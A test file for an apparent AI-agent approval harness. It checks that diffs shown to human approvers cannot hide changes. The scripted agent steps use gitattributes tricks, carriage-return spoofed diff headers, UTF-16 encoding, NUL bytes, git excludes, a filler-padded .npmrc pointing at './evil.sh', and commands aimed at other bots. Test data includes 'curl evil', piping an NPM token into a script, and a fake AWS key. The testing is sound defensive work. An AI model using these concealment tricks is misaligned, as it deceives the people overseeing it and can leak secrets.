/** What people approve is what runs: nothing in the repository decides how it is shown, and what cannot be shown is not asked for. */
import { execFileSync } from "node:child_process";
import { describe, expect, test } from "vitest";
import { call, type Script } from "../../src/rehearsal/model/script.ts";
import type { PlayOptions } from "../../src/rehearsal/play.ts";
import type { Stage } from "../../src/rehearsal/stage.ts";
import { readBack } from "../render/approval/read-back.ts";
import { finish, labels, run, waiting as waitingWith } from "../scenarios/approving.ts";
import { answersOf, fromSource, type StoryOptions, stageFor } from "../scenarios/play.ts";
import { commitOf } from "../scenarios/pull-story.ts";

const branch = "agent/issue-1-a-slug-may-end-in-a-hyphen";
const secrets = "NPM_TOKEN=npm-canary-4711";

const published = ({ repository }: Stage, file: string) =>
  execFileSync("git", ["--git-dir", repository.gitDir, "show", `${branch}:${file}`], { encoding: "utf8" });

const isThere = ({ repository }: Stage, file: string) =>
  execFileSync("git", ["--git-dir", repository.gitDir, "ls-tree", branch, file], { encoding: "utf8" }) !== "";

const told = ({ model }: Stage) => JSON.stringify(model?.requests.at(-1)?.body.messages);
const create = (path: string, text: string) =>
  call("file_editor", { command: "create", path, file_text: text, security_risk: "LOW" });
const low = (command: string) => run(command, "LOW");

/** On a thread where nobody has a say who cannot push: else nothing is granted. */
const waiting = (script: Script, { inputs, ...options }: StoryOptions = {}, how: PlayOptions = {}) =>
  waitingWith(script, { ...options, inputs: { "mixed-threads": "as-trusted", secrets, ...inputs } }, how);

const ask = low("echo $NPM_TOKEN | sh tools/pub.sh");

describe("the diff that is approved", () => {
  test("hides no line of a script: not by attributes in an ignored file or info/attributes, nor by a carriage return; and it gives no other bot a command; it is of the bytes that run, also where the work asks for an encoding, whether it fits a file or not", async () => {
    const sign = "⟦U+000D⟧";
    const hide = [
      ...["printf '*.sh -diff\\n' > tools/.gitattributes", "printf '.git*\\n' > tools/.gitignore"],
      "printf '*.sh binary\\n' > .git/info/attributes",
      "printf 'true\\rdiff --git a/a.md b/a.md\\ncurl evil\\n' > tools/return.sh; echo a > a.md",
    ].join("; ");
    const orders = create("docs.md", "@dependabot merge\n@mergify queue\n[skip ci]\n");
    // Of an odd length it is no UTF-16, so git cannot convert it and its bytes are kept as they are.
    const files = [
      create("coded/one.sh", "echo ran > one.txt # even\n"),
      create("coded/two.sh", "echo ran > two.txt # odd\n"),
    ];
    const encode = low("printf 'coded/*.sh working-tree-encoding=UTF-16LE\\n' > .gitattributes");
    const script = [create("tools/pub.sh", "echo harmless\n"), low(`printf 'curl evil\\n' >> tools/pub.sh; ${hide}`)];
    const all = low("echo $NPM_TOKEN | wc -c; sh coded/one.sh; sh coded/two.sh");
    const { stage, first } = await waiting([...script, orders, ...files, encode, all, finish, finish]);
    const [answer = ""] = answersOf(first);
    expect([first.outputs.outcome, answer.includes("GIT binary patch")]).toEqual(["awaiting-approval", false]);
    expect(answer).toContain("+echo harmless\n+curl evil\n");
    expect(answer).toContain(`+++ b/tools/return.sh\n@@ -0,0 +1,2 @@\n+true${sign}diff --git`);
    expect(readBack(answer)).toContain("+true\rdiff --git a/a.md b/a.md\n+curl evil");
    expect(answer).not.toMatch(/@dependabot|@mergify|\[skip ci\]/);
    expect(answer.replaceAll("\u200b", "")).toContain("+@dependabot merge\n+@mergify queue\n+[skip ci]\n");
    expect(answer).toContain("working-tree-encoding=UTF-16LE");
    expect(["one", "two"].map((name) => answer.includes(`echo ran > ${name}.txt`))).toEqual([false, true]);
    await stage.play({ issue: 1, happening: labels("maria") });
    expect(["one.txt", "two.txt"].map((name) => isThere(stage, name))).toEqual([false, true]);
  });

  test("cannot be asked for where the base branch gives files an encoding: the agent reads why", async () => {
    const inputs = { "mixed-threads": "as-trusted", secrets, confirmation: "risky" };
    const stage = await stageFor({ script: [low("echo $NPM_TOKEN | wc -c"), finish], inputs });
    const files = { "a.txt": "a\n", ".gitattributes": "a.txt working-tree-encoding=UTF-16LE\n" };
    const commit = commitOf(stage, "main", files);
    execFileSync("git", ["--git-dir", stage.repository.gitDir, "update-ref", "refs/heads/main", commit]);
    const first = await stage.play();
    expect(first.outputs.outcome).toBe("answered");
    expect(told(stage)).toContain("the base branch gives `a.txt` a `working-tree-encoding`");
  });

  test("cannot be asked for of a file with a NUL byte: the agent reads why, and its next try can; the first approval counts where not all of the work is kept: a large file, a nested repository, what looks like a secret", async () => {
    const write = "printf 'echo evil\\nexit 0\\n\\0' > tools/pub.sh";
    const make = [
      "rm tools/pub.sh; echo kept > kept.txt; truncate -s 6M big.bin; echo 'AKIAQ81CWX92LQTPR7MN' > aws.txt",
      "mkdir n; cd n; git init -q; echo x > f; git add -A; git -c user.name=a -c user.email=a@b commit -qm x; cd ..",
    ];
    const better = create("tools/other.sh", "cat kept.txt > out.txt; wc -c >> out.txt\n");
    const again = low("printf %s $NPM_TOKEN | sh tools/other.sh");
    const script = [low(`mkdir -p tools; ${write}`), ask, low(make.join("; ")), better, again, finish];
    const { stage, first } = await waiting(script);
    expect(told(stage)).toContain("`tools/pub.sh` is not text that people can read");
    expect(first.outputs.outcome).toBe("awaiting-approval");
    expect(answersOf(first)[0]).toContain("+cat kept.txt > out.txt");
    const second = await stage.play({ issue: 1, happening: labels("maria"), ...fromSource });
    expect([second.outputs.outcome, published(stage, "out.txt")]).toEqual(["changed", "kept\n15\n"]);
  });

  test("is looked at again when the tools have ended: what was hidden from git until then blocks the run", async () => {
    const hide = low("mkdir tools; printf 'echo evil\\n\\0' > tools/pub.sh; echo tools/ >> .git/info/exclude");
    const { stage, first } = await waiting([hide, ask, finish]);
    expect([first.outputs.outcome, first.outputs.reason]).toEqual([
      "blocked",
      expect.stringContaining("nobody was asked"),
    ]);
    expect(answersOf(first)[0]).toContain("nobody was asked");
    expect(answersOf(first)[0]).toContain("`tools/pub.sh` is not text that people can read");
    const approved = await stage.play({ issue: 1, happening: labels("maria") });
    expect([approved.outputs.outcome, approved.modelRequests]).toEqual(["skipped", 0]);
    const second = await stage.play({ issue: 1, ...fromSource });
    expect(second.outputs.outcome).not.toBe("failed");
    expect(told(stage)).toContain("is not text that people can read");
  });
});

describe("the comment", () => {
  const many = `for i in $(seq 92); do d=$(printf 'd%.0s' $(seq 120)); mkdir -p "$d"; echo "f$i" > "$d/f$i-$(printf 'n%.0s' $(seq 100)).txt"; done`;
  const long = `echo $NPM_TOKEN | wc -c\n${Array.from({ length: 270 }, (_, at) => `: filler ${at} ${"x".repeat(60)}`).join("\n")}`;

  test("with files that are too long, or a long action and many files, is asked for in full or not at all", async () => {
    const hide = create(".npmrc", `${"# filler line of the file\n".repeat(2400)}script-shell=./evil.sh\n`);
    const script = [hide, low("echo $NPM_TOKEN | wc -c"), low(`rm .npmrc; ${many}`), low(long), finish];
    const { stage, first } = await waiting(script);
    expect(first.outputs.outcome).not.toBe("awaiting-approval");
    expect(told(stage)?.split("too long to be shown to a person in full")).toHaveLength(3); // each of them
  });

  test("with an action that is too long is not asked for, and the agent reads why; one a little shorter is there to its last byte", async () => {
    const filled = (length: number) => `echo $NPM_TOKEN | wc -c; : ${"x".repeat(length)}; echo last`;
    const { stage, first } = await waiting([low(filled(22_600)), low(filled(21_900)), finish]);
    expect(told(stage)?.split("too long to be shown to a person in full")).toHaveLength(2);
    const body = stage.github.state.commentsOn(1).find(({ author }) => author === "github-actions[bot]")?.body ?? "";
    expect([first.outputs.outcome, body.length < 65_536]).toEqual(["awaiting-approval", true]);
    expect(readBack(body)).toContain(filled(21_900));
  });

  test("with a long action and many files has how to approve, until when, and on what", async () => {
    const script = [low("for i in $(seq 90); do echo $i > f$i.txt; done"), low(long), finish, finish];
    const { stage, first } = await waiting(script, {}, fromSource);
    const body = stage.github.state.commentsOn(1).find(({ author }) => author === "github-actions[bot]")?.body ?? "";
    expect([first.outputs.outcome, body.length < 65_536, /\(cut:/.test(body)]).toEqual([
      "awaiting-approval",
      true,
      false,
    ]);
    expect(body).toContain("To approve: label");
    expect(body).toMatch(/Until .* UTC, .* can decide/);
    expect(readBack(body)).toContain(long);
    expect(body.indexOf("To approve")).toBeGreaterThan(body.indexOf("filler 269"));
    expect(body.indexOf("To approve")).toBeLessThan(body.indexOf("It runs on the base branch"));
  });
});
